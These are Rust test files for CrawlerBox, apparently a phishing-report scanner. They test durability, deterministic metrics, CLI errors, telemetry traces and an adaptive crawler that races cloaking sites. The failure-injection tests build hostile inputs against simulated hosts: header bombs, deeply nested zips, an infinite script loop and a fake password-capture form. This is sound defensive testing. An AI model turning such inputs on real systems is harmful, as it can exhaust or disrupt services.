            assert_eq!(status, 202, "{body}");
            let task = &ingested_tasks(&body)[0];
            ids.push((
                task["id"].as_u64().unwrap(),
                task["content_hash"].as_str().unwrap().to_string(),
            ));
        }

        // Poll until at least half the tasks are acked durable, then
        // SIGKILL with the rest mid-flight.
        let mut durable: BTreeSet<String> = BTreeSet::new();
        let deadline = Instant::now() + Duration::from_secs(180);
        while durable.len() < ids.len() / 2 {
            assert!(Instant::now() < deadline, "only {} durable acks", durable.len());
            for (id, hash) in &ids {
                let (_, body) = d.get(&format!("/tasks/{id}"));
                let task: serde_json::Value = serde_json::from_str(&body).unwrap();
                if task["state"] == "durable" {
                    durable.insert(hash.clone());
                }
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        d.kill();

        let d = Daemon::spawn(&dir, &flags);
        for hash in &durable {
            let (status, body) = d.get(&format!("/records/{hash}"));
            assert_eq!(status, 200);
            let record: serde_json::Value = serde_json::from_str(&body).unwrap();
            assert_eq!(
                record["present"], true,
                "durable-acked {hash} lost across SIGKILL (batch {commit_batch}, shards {shards})"
            );
        }
        // The restarted daemon still ingests.
        let (_, body) = d.post_raw("/ingest", &subset[0].raw);
        let task = &ingested_tasks(&body)[0];
        if task["state"] != "durable" {
            d.await_durable(task["id"].as_u64().unwrap());
        }
        d.shutdown_and_wait();
        std::fs::remove_dir_all(&dir).unwrap();
    }
}

/// Satellite: for a fixed seed and request sequence the canonical
/// Prometheus exposition is byte-identical across all three schedulers.
#[test]
fn metrics_canonical_byte_identical_across_schedulers() {
    let (_corpus, subset) = corpus_subset(2024, 6);
    let mut exports = Vec::new();
    for scheduler in ["serial", "chunked", "stealing"] {
        let dir = scratch(&format!("metrics-{scheduler}"));
        let d = Daemon::spawn(
            &dir,
            &["--shards", "2", "--commit-batch", "1", "--scheduler", scheduler],
        );
        // Sequential, awaited ingest: the commit-barrier sequence is part
        // of what must not depend on the scheduler.
        for m in &subset {
            let (status, body) = d.post_raw("/ingest", &m.raw);
            assert_eq!(status, 202, "{body}");
            d.await_durable(ingested_tasks(&body)[0]["id"].as_u64().unwrap());
        }
        let (status, text) = d.get("/metrics?mode=canonical");
        assert_eq!(status, 200);
        assert!(text.contains("cb_scan_messages"), "{text}");
        exports.push((scheduler, text));
        d.shutdown_and_wait();
        std::fs::remove_dir_all(&dir).unwrap();
    }
    let (base_name, base) = &exports[0];
    for (name, text) in &exports[1..] {
        assert_eq!(
            text, base,
            "canonical /metrics differs between {base_name} and {name}"
        );
    }
}

/// CLI satellite: bad flags exit 2 with usage on stderr, before any
/// socket or store is touched.
#[test]
fn crawlboxd_cli_rejects_bad_flags() {
    let bin = env!("CARGO_BIN_EXE_crawlboxd");
    for args in [
        vec!["--bogus"],
        vec!["--store"],
        vec![],
        vec!["--store", "/tmp/x", "--scheduler", "warp"],
        vec!["--store", "/tmp/x", "--shards", "zero"],
        vec!["--store", "/tmp/x", "--scale", "7"],
        vec!["--store", "/tmp/x", "--port", "notaport"],
    ] {
        let out = Command::new(bin).args(&args).output().unwrap();
        assert_eq!(out.status.code(), Some(2), "{args:?} should exit 2");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains("usage:"), "{args:?} stderr: {stderr}");
        assert!(stderr.contains("error:"), "{args:?} stderr: {stderr}");
    }
}
