//! Failure injection: CrawlerBox must survive hostile, malformed and
//! adversarial inputs without panicking — truncated attachments, header
//! bombs, recursive containers, scripts that loop, kits that lie.

use cb_email::MessageBuilder;
use cb_netsim::{HttpRequest, HttpResponse, Internet, NetContext};
use cb_phishgen::messages::Carrier;
use cb_phishgen::{GroundTruth, MessageClass, ReportedMessage};
use cb_sim::SimTime;
use crawlerbox::CrawlerBox;

fn message_from(raw: String) -> ReportedMessage {
    ReportedMessage {
        id: 0,
        raw,
        delivered_at: SimTime::from_ymd(2024, 3, 1),
        victim: "v@corp.example".to_string(),
        truth: GroundTruth {
            class: MessageClass::NoResource,
            campaign: None,
            carrier: Carrier::None,
            spear: false,
            noise_padded: false,
            url: None,
        },
    }
}

fn scan(net: &Internet, raw: String) -> crawlerbox::ScanRecord {
    CrawlerBox::new(net).scan(&message_from(raw))
}

#[test]
fn malformed_mime_inputs_never_panic() {
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    for raw in [
        String::new(),
        "garbage without any headers at all".to_string(),
        "Content-Type: multipart/mixed\r\n\r\nno boundary".to_string(),
        "Subject: truncated base64\r\nContent-Transfer-Encoding: base64\r\n\r\nZm9v!!!".to_string(),
        "A: \u{0}\u{1}\u{2}\r\n\r\nbinary header values".to_string(),
        format!("Subject: header bomb\r\n{}\r\n\r\nx", "X-Pad: y\r\n".repeat(5000)),
    ] {
        let record = scan(&net, raw);
        assert_eq!(record.class, MessageClass::NoResource);
    }
}

#[test]
fn truncated_attachments_never_panic() {
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    // Build valid containers, then truncate the encoded bytes.
    let mut zip = cb_artifacts::ZipArchive::new();
    zip.add("a.txt", b"https://x.example/hello");
    let mut zip_bytes = zip.to_bytes();
    zip_bytes.truncate(zip_bytes.len() / 2);

    let mut pdf = cb_artifacts::PdfDocument::new();
    let mut page = cb_artifacts::pdf::PdfPage::new();
    page.link("https://x.example/pdf");
    pdf.page(page);
    let mut pdf_bytes = pdf.to_bytes();
    pdf_bytes.truncate(20);

    let img = cb_artifacts::Bitmap::new(50, 20, cb_artifacts::Rgb::WHITE);
    let mut img_bytes = img.to_bytes();
    img_bytes.truncate(30);

    for (name, ct, data) in [
        ("broken.zip", "application/zip", zip_bytes),
        ("broken.pdf", "application/pdf", pdf_bytes),
        ("broken.png", "image/png", img_bytes),
        ("empty.bin", "application/octet-stream", Vec::new()),
    ] {
        let mut b = MessageBuilder::new();
        b.subject("damaged").attach(name, ct, &data);
        let record = scan(&net, b.build());
        assert!(record.visits.is_empty() || record.class != MessageClass::ActivePhish);
    }
}

#[test]
fn zip_bomb_nesting_terminates() {
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    let mut inner = cb_artifacts::ZipArchive::new();
    inner.add("u.txt", b"https://deep.example/x");
    let mut bytes = inner.to_bytes();
    for i in 0..12 {
        let mut z = cb_artifacts::ZipArchive::new();
        z.add(&format!("l{i}.zip"), &bytes);
        bytes = z.to_bytes();
    }
    let mut b = MessageBuilder::new();
    b.subject("matryoshka").attach("bomb.zip", "application/zip", &bytes);
    let record = scan(&net, b.build());
    // bounded recursion: the deeply nested URL is not surfaced, no hang
    assert!(record.extracted.is_empty());
}

#[test]
fn page_with_infinite_script_loop_is_bounded() {
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    net.register_domain("spinner.example", "REG");
    net.host("spinner.example", |_: &HttpRequest, _: &NetContext<'_>| {
        HttpResponse::html(
            r#"<script>while (true) { debugger; }</script><p>after</p>"#,
        )
    });
    let mut b = MessageBuilder::new();
    b.subject("spin").text_body("https://spinner.example/");
    let record = scan(&net, b.build());
    // the script budget aborts the loop; the page still loads
    assert_eq!(record.visits.len(), 1);
    assert!(record.visits[0].debugger_hits > 0);
}

#[test]
fn server_returning_garbage_headers_is_survivable() {
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    net.register_domain("weird.example", "REG");
    net.host("weird.example", |_: &HttpRequest, _: &NetContext<'_>| {
        HttpResponse {
            status: 302,
            headers: vec![("Location".to_string(), "not a url at all \u{7}".to_string())],
            body: Vec::new(),
        }
    });
    let mut b = MessageBuilder::new();
    b.subject("redirect to garbage").text_body("https://weird.example/");
    let record = scan(&net, b.build());
    assert_eq!(record.visits.len(), 1);
    assert_ne!(record.class, MessageClass::ActivePhish);
}

#[test]
fn redirect_chain_across_dead_domains_is_error_class() {
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    net.register_domain("alive.example", "REG");
    net.host("alive.example", |_: &HttpRequest, _: &NetContext<'_>| {
        HttpResponse::redirect("https://dead-end.example/next")
    });
    let mut b = MessageBuilder::new();
    b.subject("into the void").text_body("https://alive.example/start");
    let record = scan(&net, b.build());
    assert_eq!(record.class, MessageClass::ErrorPage);
}

#[test]
fn scan_all_on_mixed_garbage_batch() {
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    let batch: Vec<ReportedMessage> = (0..24)
        .map(|i| {
            let mut m = message_from(match i % 4 {
                0 => String::new(),
                1 => "no headers".to_string(),
                2 => "Subject: ok\r\n\r\nhttps://void.example/x".to_string(),
                _ => format!("Subject: {}\r\n\r\nbody", "\u{fffd}".repeat(100)),
            });
            m.id = i;
            m
        })
        .collect();
    let records = CrawlerBox::new(&net).scan_all(&batch);
    assert_eq!(records.len(), 24);
    for (i, r) in records.iter().enumerate() {
        assert_eq!(r.message_id, i);
    }
}

#[test]
fn panicking_site_handler_degrades_one_record_not_the_batch() {
    // One poisoned message must never abort scan_all: the panic is caught
    // per message and surfaces as a degraded record with error provenance,
    // while every other message scans normally.
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    net.register_domain("fine.example", "REG");
    net.host("fine.example", |_: &HttpRequest, _: &NetContext<'_>| {
        HttpResponse::html("<p>all good</p>")
    });
    net.register_domain("boom.example", "REG");
    net.host("boom.example", |_: &HttpRequest, _: &NetContext<'_>| {
        panic!("handler exploded")
    });

    let mut batch = Vec::new();
    for (i, body) in [
        "see https://fine.example/a",
        "see https://boom.example/kaboom",
        "see https://fine.example/b",
    ]
    .iter()
    .enumerate()
    {
        let mut b = MessageBuilder::new();
        b.subject("mixed batch").text_body(body);
        let mut m = message_from(b.build());
        m.id = i;
        batch.push(m);
    }

    let records = CrawlerBox::new(&net).scan_all(&batch);
    assert_eq!(records.len(), 3, "every slot must be filled");
    assert!(records[0].error.is_none());
    assert!(records[2].error.is_none());
    let err = records[1].error.as_deref().expect("poisoned record tagged");
    assert!(err.contains("panic"), "provenance missing: {err}");
    assert_eq!(records[1].message_id, 1);
    // the clean neighbours crawled normally
    assert_eq!(records[0].visits.len(), 1);
    assert_eq!(records[2].visits.len(), 1);
}

#[test]
fn work_stealing_degrades_panicking_message_identically_to_serial() {
    // Regression for the work-stealing scheduler: a panicking message in
    // the middle of the batch must still yield exactly one record per
    // message, in message order, and every record — including the degraded
    // one — must be byte-identical to a serial-scheduler run.
    use crawlerbox::Scheduler;

    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    net.register_domain("fine.example", "REG");
    net.host("fine.example", |_: &HttpRequest, _: &NetContext<'_>| {
        HttpResponse::html("<p>all good</p>")
    });
    net.register_domain("boom.example", "REG");
    net.host("boom.example", |_: &HttpRequest, _: &NetContext<'_>| {
        panic!("handler exploded")
    });

    let mut batch = Vec::new();
    for (i, body) in [
        "see https://fine.example/a",
        "see https://boom.example/kaboom",
        "see https://fine.example/b",
        "see https://fine.example/c",
        "see https://boom.example/again",
    ]
    .iter()
    .enumerate()
    {
        let mut b = MessageBuilder::new();
        b.subject("stealing batch").text_body(body);
        let mut m = message_from(b.build());
        m.id = i;
        batch.push(m);
    }

    let serial = CrawlerBox::new(&net)
        .with_scheduler(Scheduler::Serial)
        .scan_all(&batch);
    let stealing = CrawlerBox::new(&net)
        .with_scheduler(Scheduler::WorkStealing)
        .scan_all(&batch);

    assert_eq!(stealing.len(), batch.len(), "one record per message");
    for (i, r) in stealing.iter().enumerate() {
        assert_eq!(r.message_id, i, "records stay in message order");
    }
    assert!(stealing[1].error.as_deref().unwrap_or("").contains("panic"));
    assert!(stealing[4].error.as_deref().unwrap_or("").contains("panic"));
    assert_eq!(
        serde_json::to_string(&stealing).unwrap(),
        serde_json::to_string(&serial).unwrap(),
        "work stealing must be bit-identical to serial, degraded records included"
    );
}

#[test]
fn gate_page_lying_about_its_kind_is_not_solved() {
    // A site that presents a math gate but never accepts the answer must
    // settle as interaction-required, not loop.
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    net.register_domain("liar.example", "REG");
    net.host("liar.example", |_: &HttpRequest, _: &NetContext<'_>| {
        HttpResponse::html(
            r#"<p>What is 17 + 25?</p><div data-requires-interaction="math"></div>"#,
        )
    });
    let mut b = MessageBuilder::new();
    b.subject("gate").text_body("https://liar.example/");
    let record = scan(&net, b.build());
    assert_eq!(record.class, MessageClass::InteractionRequired);
    // the solver tried (bounded retries), then gave up
    assert!(record.visits[0].gates_solved.len() <= 2);
}

#[test]
fn fixed_review_findings_hold_end_to_end() {
    // Regression sweep for the code-review findings, at the pipeline surface.
    let net = Internet::new(SimTime::from_ymd(2024, 3, 1));
    net.register_domain("early-http.example", "REG");
    net.host("early-http.example", |_: &HttpRequest, _: &NetContext<'_>| {
        HttpResponse::html("<form action=/c><input type=password name=p></form>")
    });

    // (a) an http:// phish followed by an https:// footer link is extracted
    let mut b = MessageBuilder::new();
    b.subject("order").text_body(
        "pay at http://early-http.example/tok88 now\r\n\r\nunsubscribe: https://mailer.example/u",
    );
    let record = scan(&net, b.build());
    assert!(
        record
            .extracted
            .iter()
            .any(|r| r.url == "http://early-http.example/tok88"),
        "{:?}",
        record.extracted
    );
    assert_eq!(record.class, MessageClass::ActivePhish);

    // (b) a Turkish dotted capital before the OTP marker must not panic or
    // corrupt the extracted code
    let mut b2 = MessageBuilder::new();
    b2.subject("otp").text_body(
        "\u{130}\u{130}\u{130} Your one-time access code: 491827 \u{20AC}\r\nhttps://early-http.example/x",
    );
    let record2 = scan(&net, b2.build());
    assert_eq!(record2.class, MessageClass::ActivePhish);

    // (c) faulty QR inside a nested EML keeps its provenance
    let symbol = cb_qr::encode_bytes(b"xxx https://early-http.example/qq", cb_qr::EcLevel::M).unwrap();
    let img = cb_artifacts::qrimage::render(symbol.matrix(), 2);
    let mut inner = MessageBuilder::new();
    inner.subject("inner").attach("qr.png", "image/png", &img.to_bytes());
    let mut outer = MessageBuilder::new();
    outer
        .subject("fwd")
        .attach("mail.eml", "message/rfc822", inner.build().as_bytes());
    let record3 = scan(&net, outer.build());
    assert!(record3.has_faulty_qr(), "{:?}", record3.extracted);
}
