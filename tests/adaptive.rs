//! The adaptive arms race (DESIGN.md §16), end to end: the `repro
//! adaptive` experiment must be byte-identical across the three batch
//! schedulers at 0% and 20% fault rates (arm-selection transcripts, the
//! rendered table AND the canonical metrics export); the adaptive bandit
//! must beat the fixed NotABot baseline on at least three cloaking
//! families at every budget ≥ 4 (the headline acceptance claim); policy
//! memory persisted into a crawl store must survive a reopen and resume
//! the race; and the `repro adaptive` CLI must reject malformed
//! invocations with exit 2 + usage.
//!
//! Environment knobs (mirroring `tests/telemetry.rs`):
//! * `CB_SEED` — experiment seed for the determinism property (default 2024)
//! * `CB_SCHEDULER` — restrict the property to one scheduler
//!   (`serial|chunked|stealing`; default: compare chunked AND stealing
//!   against the serial reference)

use cb_adaptive::{AdaptiveConfig, PolicyMemory};
use cb_store::Store;
use cb_telemetry::ExportMode;
use crawlerbox::Scheduler;
use std::process::Command;

/// The fault sweep's rate: 20% of URLs flaky.
const FAULT_RATE: f64 = 0.2;

fn seed_from_env() -> u64 {
    std::env::var("CB_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(2024)
}

fn schedulers_from_env() -> Vec<Scheduler> {
    match std::env::var("CB_SCHEDULER").as_deref() {
        Ok("serial") => vec![Scheduler::Serial],
        Ok("chunked") => vec![Scheduler::StaticChunk],
        Ok("stealing") => vec![Scheduler::WorkStealing],
        Ok(other) => panic!("CB_SCHEDULER must be serial|chunked|stealing, got {other:?}"),
        Err(_) => vec![Scheduler::StaticChunk, Scheduler::WorkStealing],
    }
}

/// A determinism-property configuration small enough to run at every
/// (scheduler × fault rate) point but still covering two budgets and the
/// cross-campaign policy carryover.
fn property_config(seed: u64, fault_rate: f64, scheduler: Scheduler) -> AdaptiveConfig {
    let mut cfg = AdaptiveConfig::new(seed);
    cfg.budgets = vec![2, 8];
    cfg.campaigns_per_family = 3;
    cfg.fault_rate = fault_rate;
    cfg.scheduler = scheduler;
    cfg
}

/// The tier-1 determinism contract for the arms race: for one seed, the
/// arm-selection transcripts, the rendered table and the canonical
/// metrics export are byte-identical no matter which scheduler fanned the
/// cells out — with and without injected transient faults.
#[test]
fn adaptive_table_is_byte_identical_across_schedulers() {
    let seed = seed_from_env();
    for fault_rate in [0.0, FAULT_RATE] {
        let reference = cb_adaptive::experiment::run(
            &property_config(seed, fault_rate, Scheduler::Serial),
            &PolicyMemory::default(),
        );
        let ref_table = reference.report.render();
        let ref_metrics = reference.metrics.export_json(ExportMode::Canonical);
        assert!(
            ref_table.contains("adaptive strictly ahead"),
            "serial reference rendered no summary:\n{ref_table}"
        );
        for scheduler in schedulers_from_env() {
            let out = cb_adaptive::experiment::run(
                &property_config(seed, fault_rate, scheduler),
                &PolicyMemory::default(),
            );
            for (ours, theirs) in out.report.cells.iter().zip(&reference.report.cells) {
                assert_eq!(
                    ours.arm_sequence, theirs.arm_sequence,
                    "{}/{}/{} arm-selection transcript diverged from serial: \
                     {scheduler:?}, fault_rate {fault_rate}, seed {seed}",
                    ours.family, ours.budget, ours.strategy
                );
            }
            assert_eq!(
                out.report.render(),
                ref_table,
                "rendered table diverged from serial: {scheduler:?}, \
                 fault_rate {fault_rate}, seed {seed}"
            );
            assert_eq!(
                out.metrics.export_json(ExportMode::Canonical),
                ref_metrics,
                "canonical metrics diverged from serial: {scheduler:?}, \
                 fault_rate {fault_rate}, seed {seed}"
            );
        }
    }
}

/// The acceptance claim, at the CI golden seed: the adaptive crawler wins
/// strictly more campaigns than fixed NotABot on at least 3 cloaking
/// families at every budget ≥ 4, and never fewer on any family.
#[test]
fn adaptive_beats_fixed_notabot_on_at_least_three_families() {
    let out = cb_adaptive::experiment::run(&AdaptiveConfig::new(42), &PolicyMemory::default());
    for (fixed, adaptive) in out.report.pairs() {
        assert!(
            adaptive.wins >= fixed.wins,
            "{}/{}: the bandit must never lose ground to its own baseline arm",
            fixed.family,
            fixed.budget
        );
    }
    for &budget in &[4u32, 8, 16] {
        let ahead = out.report.adaptive_ahead(budget);
        assert!(
            ahead.len() >= 3,
            "budget {budget}: adaptive must be strictly ahead on >= 3 families, \
             got {ahead:?}"
        );
    }
}

/// Policy state rides the crawl store: memory saved into a store is
/// returned byte-equal by a *reopened* store, and a run resumed from it
/// holds the ground the cold run gained.
#[test]
fn policy_memory_survives_a_store_reopen_and_resumes_the_race() {
    let dir = std::env::temp_dir().join(format!("cb-adaptive-store-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);

    let mut cfg = AdaptiveConfig::new(23).with_budget(8);
    cfg.campaigns_per_family = 2;
    let cold = cb_adaptive::experiment::run(&cfg, &PolicyMemory::default());
    assert!(!cold.memory.cells.is_empty(), "the adaptive side must learn policies");

    {
        let store = Store::open(&dir).expect("open store");
        cold.memory.save(&store).expect("persist policy memory");
    }
    let reopened = Store::open(&dir).expect("reopen store");
    assert_eq!(reopened.len(), 0, "policy state must not masquerade as crawl records");
    let resume = PolicyMemory::load(&reopened);
    assert_eq!(resume, cold.memory, "memory must round-trip through the reopened store");

    let warm = cb_adaptive::experiment::run(&cfg, &resume);
    for ((_, w), (_, c)) in warm.report.pairs().into_iter().zip(cold.report.pairs()) {
        assert!(
            w.wins >= c.wins,
            "{}: resuming from persisted memory must not lose ground",
            w.family
        );
    }

    let _ = std::fs::remove_dir_all(&dir);
}

// ---- repro adaptive CLI ------------------------------------------------

fn repro() -> Command {
    Command::new(env!("CARGO_BIN_EXE_repro"))
}

fn run_cli(cmd: &mut Command) -> (i32, String, String) {
    let out = cmd.output().expect("spawn repro");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[test]
fn repro_adaptive_rejects_unknown_flags_with_usage() {
    let (code, _, stderr) = run_cli(repro().args(["adaptive", "--wat"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("unknown flag --wat"), "stderr: {stderr}");
    assert!(stderr.contains("usage: repro"), "stderr: {stderr}");
}

#[test]
fn repro_adaptive_rejects_out_of_range_budgets() {
    for budget in ["0", "100", "-3", "nope"] {
        let (code, _, stderr) = run_cli(repro().args(["adaptive", "--budget", budget]));
        assert_eq!(code, 2, "--budget {budget} must be a usage error");
        assert!(stderr.contains("--budget"), "stderr: {stderr}");
        assert!(stderr.contains("usage: repro"), "stderr: {stderr}");
    }
}

#[test]
fn repro_adaptive_rejects_out_of_range_fault_rates() {
    for rate in ["1.5", "-0.1"] {
        let (code, _, stderr) = run_cli(repro().args(["adaptive", "--fault-rate", rate]));
        assert_eq!(code, 2, "--fault-rate {rate} must be a usage error");
        assert!(stderr.contains("--fault-rate"), "stderr: {stderr}");
    }
}

#[test]
fn repro_rejects_budget_outside_the_adaptive_experiment() {
    let (code, _, stderr) = run_cli(repro().args(["classmix", "--budget", "8"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("--budget"), "stderr: {stderr}");
    assert!(stderr.contains("adaptive"), "stderr: {stderr}");
}

#[test]
fn repro_adaptive_rejects_corpus_flags() {
    let (code, _, stderr) = run_cli(repro().args(["adaptive", "--scale", "0.5"]));
    assert_eq!(code, 2);
    assert!(stderr.contains("adaptive"), "stderr: {stderr}");
}

/// End-to-end smoke: a pinned tiny budget runs to completion, prints the
/// table and the per-budget summary on stdout.
#[test]
fn repro_adaptive_prints_the_table() {
    let (code, stdout, stderr) = run_cli(repro().args(["adaptive", "--budget", "2", "--seed", "3"]));
    assert_eq!(code, 0, "stderr: {stderr}");
    assert!(stdout.contains("== Adaptive vs fixed NotABot =="), "stdout: {stdout}");
    assert!(stdout.contains("open-door"), "stdout: {stdout}");
    assert!(stdout.contains("budget  2: adaptive strictly ahead on"), "stdout: {stdout}");
}
