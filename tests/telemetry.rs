//! The golden-trace harness for the telemetry subsystem (DESIGN.md §10):
//! canonical exports must be byte-identical across schedulers, caching
//! settings and fault rates (the determinism contract, tier-1); a committed
//! golden trace pins the canonical byte layout; faulted runs must leave
//! retry/backoff provenance in their traces; and the `repro` CLI must
//! reject malformed invocations and wire `--trace`/`--metrics` end to end.
//!
//! Environment knobs (used by the CI seed matrix):
//! * `CB_SEED` — corpus seed for the determinism property (default 2024)
//! * `CB_SCHEDULER` — restrict the property to one scheduler
//!   (`serial|chunked|stealing`; default: compare chunked AND stealing
//!   against the serial reference)
//! * `CB_BLESS=1` — regenerate the golden files instead of comparing
//!
//! Every run generates a *fresh* corpus from its seed: scanning mutates
//! world state (IP allocation, serve counters), so a `Corpus` value must
//! never be rescanned.

use cb_phishgen::{Corpus, CorpusSpec};
use cb_telemetry::TraceEvent;
use crawlerbox::{CrawlerBox, ExportMode, Scheduler};
use std::path::PathBuf;
use std::process::Command;

/// Corpus scale for the determinism property (~100 messages).
const PROPERTY_SCALE: f64 = 0.02;
/// Corpus scale for the golden trace (~50 messages, 8 scanned).
const GOLDEN_SCALE: f64 = 0.01;
/// Messages scanned for the golden files: enough to cover parse, extract,
/// visits, enrichment and class derivation without bloating the diff.
const GOLDEN_MESSAGES: usize = 8;
/// The fault sweep's rate: 20% of URLs flaky.
const FAULT_RATE: f64 = 0.2;

fn seed_from_env() -> u64 {
    std::env::var("CB_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(2024)
}

/// Schedulers compared against the serial reference. `CB_SCHEDULER` pins
/// one (the CI matrix runs them as separate jobs).
fn schedulers_from_env() -> Vec<Scheduler> {
    match std::env::var("CB_SCHEDULER").as_deref() {
        Ok("serial") => vec![Scheduler::Serial],
        Ok("chunked") => vec![Scheduler::StaticChunk],
        Ok("stealing") => vec![Scheduler::WorkStealing],
        Ok(other) => panic!("CB_SCHEDULER must be serial|chunked|stealing, got {other:?}"),
        Err(_) => vec![Scheduler::StaticChunk, Scheduler::WorkStealing],
    }
}

/// Scan a fresh corpus and return `(canonical trace JSONL, canonical
/// metrics JSON)`.
fn canonical_run(
    scale: f64,
    seed: u64,
    fault_rate: f64,
    caching: bool,
    scheduler: Scheduler,
) -> (String, String) {
    let mut spec = CorpusSpec::paper().with_scale(scale);
    if fault_rate > 0.0 {
        spec = spec.with_fault_rate(fault_rate);
    }
    let corpus = Corpus::generate(&spec, seed);
    let cbx = CrawlerBox::new(&corpus.world)
        .with_scheduler(scheduler)
        .with_caching(caching)
        .with_tracing(true);
    let _ = cbx.scan_all(&corpus.messages);
    (
        cbx.take_trace().to_jsonl(ExportMode::Canonical),
        cbx.export_metrics(ExportMode::Canonical),
    )
}

/// The tier-1 determinism contract: for one seed and config, the canonical
/// trace and metrics exports are byte-identical no matter which scheduler
/// ran the batch — at 0% and 20% fault rates, caches on and off.
#[test]
fn canonical_exports_are_byte_identical_across_schedulers() {
    let seed = seed_from_env();
    for fault_rate in [0.0, FAULT_RATE] {
        for caching in [true, false] {
            let (ref_trace, ref_metrics) =
                canonical_run(PROPERTY_SCALE, seed, fault_rate, caching, Scheduler::Serial);
            assert!(
                !ref_trace.is_empty(),
                "serial reference recorded an empty trace"
            );
            for scheduler in schedulers_from_env() {
                let (trace, metrics) =
                    canonical_run(PROPERTY_SCALE, seed, fault_rate, caching, scheduler);
                assert_eq!(
                    trace, ref_trace,
                    "canonical trace diverged from serial: {scheduler:?}, \
                     fault_rate {fault_rate}, caching {caching}, seed {seed}"
                );
                assert_eq!(
                    metrics, ref_metrics,
                    "canonical metrics diverged from serial: {scheduler:?}, \
                     fault_rate {fault_rate}, caching {caching}, seed {seed}"
                );
            }
        }
    }
}

fn golden_path(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden")
        .join(name)
}

/// Compare `current` against the committed golden file, or (re)generate it
/// when `CB_BLESS` is set or the file does not exist yet (first run on a
/// fresh checkout blesses; every later run compares byte-for-byte).
fn assert_golden(name: &str, current: &str) {
    let path = golden_path(name);
    let bless = std::env::var_os("CB_BLESS").is_some() || !path.exists();
    if bless {
        if let Some(parent) = path.parent() {
            let _ = std::fs::create_dir_all(parent);
        }
        match std::fs::write(&path, current) {
            Ok(()) => eprintln!("blessed golden file {}", path.display()),
            Err(e) => eprintln!("cannot bless {}: {e} (skipping)", path.display()),
        }
        return;
    }
    let golden = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("cannot read golden file {}: {e}", path.display()));
    assert_eq!(
        current,
        golden,
        "{name} drifted from the committed golden bytes; if the change is \
         intentional, regenerate with CB_BLESS=1 and commit the diff"
    );
}

/// The golden trace: a fixed serial slice of the seed-2024 corpus must keep
/// producing the exact committed bytes (canonical JSONL + canonical
/// metrics). This pins the export format itself — field order, escaping,
/// number layout — not just the event content.
#[test]
fn golden_trace_and_metrics_are_stable() {
    let spec = CorpusSpec::paper().with_scale(GOLDEN_SCALE);
    let corpus = Corpus::generate(&spec, 2024);
    let cbx = CrawlerBox::new(&corpus.world)
        .with_scheduler(Scheduler::Serial)
        .with_tracing(true);
    let slice = &corpus.messages[..GOLDEN_MESSAGES.min(corpus.messages.len())];
    let records = cbx.scan_all(slice);
    assert_eq!(records.len(), slice.len());
    assert_golden(
        "trace_small.jsonl",
        &cbx.take_trace().to_jsonl(ExportMode::Canonical),
    );
    assert_golden(
        "metrics_small.json",
        &cbx.export_metrics(ExportMode::Canonical),
    );
}

/// A faulted supervised run must leave its recovery story in the trace:
/// `net.fault` provenance, a retry attempt, and a backoff span.
#[test]
fn faulted_run_trace_contains_retry_and_backoff_spans() {
    let spec = CorpusSpec::paper()
        .with_scale(0.05)
        .with_fault_rate(FAULT_RATE);
    let corpus = Corpus::generate(&spec, 2024);
    let cbx = CrawlerBox::new(&corpus.world)
        .with_scheduler(Scheduler::Serial)
        .with_tracing(true);
    let _ = cbx.scan_all(&corpus.messages);
    let jsonl = cbx.take_trace().to_jsonl(ExportMode::Canonical);
    assert!(
        jsonl.contains(r#""name":"net.fault""#),
        "a 20% fault rate must surface net.fault instants"
    );
    assert!(
        jsonl.contains(r#""name":"attempt","fields":[["n","1"]]"#),
        "at least one visit must have retried (attempt n=1)"
    );
    assert!(
        jsonl.contains(r#""name":"backoff""#),
        "retries must record their backoff spans"
    );
    let metrics = cbx.export_metrics(ExportMode::Canonical);
    let faults_line = metrics
        .lines()
        .find(|l| l.contains("net.faults_observed"))
        .expect("metrics export carries net.faults_observed");
    assert!(
        !faults_line.trim_end().trim_end_matches(',').ends_with(": 0"),
        "fault counter should be nonzero: {faults_line}"
    );
}

/// Full-mode exports carry the advisory channel: which worker ran each
/// scan, shared-cache hit/miss, steal counts. Canonical mode strips it.
#[test]
fn full_export_carries_advisory_worker_and_cache_fields() {
    let spec = CorpusSpec::paper().with_scale(PROPERTY_SCALE);
    let corpus = Corpus::generate(&spec, 2024);
    let cbx = CrawlerBox::new(&corpus.world)
        .with_scheduler(Scheduler::WorkStealing)
        .with_tracing(true);
    let _ = cbx.scan_all(&corpus.messages);
    let trace = cbx.take_trace();

    let full = trace.to_jsonl(ExportMode::Full);
    assert!(
        full.contains(r#""adv":[["worker","#),
        "full export must tag scans with their worker"
    );
    let canonical = trace.to_jsonl(ExportMode::Canonical);
    assert!(!canonical.contains("\"adv\""), "canonical export leaked advisory fields");
    assert!(!canonical.contains(r#"["worker""#), "canonical export leaked worker ids");

    let metrics_full = cbx.export_metrics(ExportMode::Full);
    assert!(metrics_full.contains("\"scheduler.steals\""));
    assert!(metrics_full.contains("\"cache.artifact.hits\""));
    let metrics_canonical = cbx.export_metrics(ExportMode::Canonical);
    assert!(!metrics_canonical.contains("\"scheduler.steals\""));
}

/// `ScanStats` now reads from the registry: its values and the metrics
/// export must agree exactly (the counters are literally the same atomics).
#[test]
fn scan_stats_and_registry_agree() {
    let spec = CorpusSpec::paper().with_scale(PROPERTY_SCALE);
    let corpus = Corpus::generate(&spec, 2024);
    let cbx = CrawlerBox::new(&corpus.world);
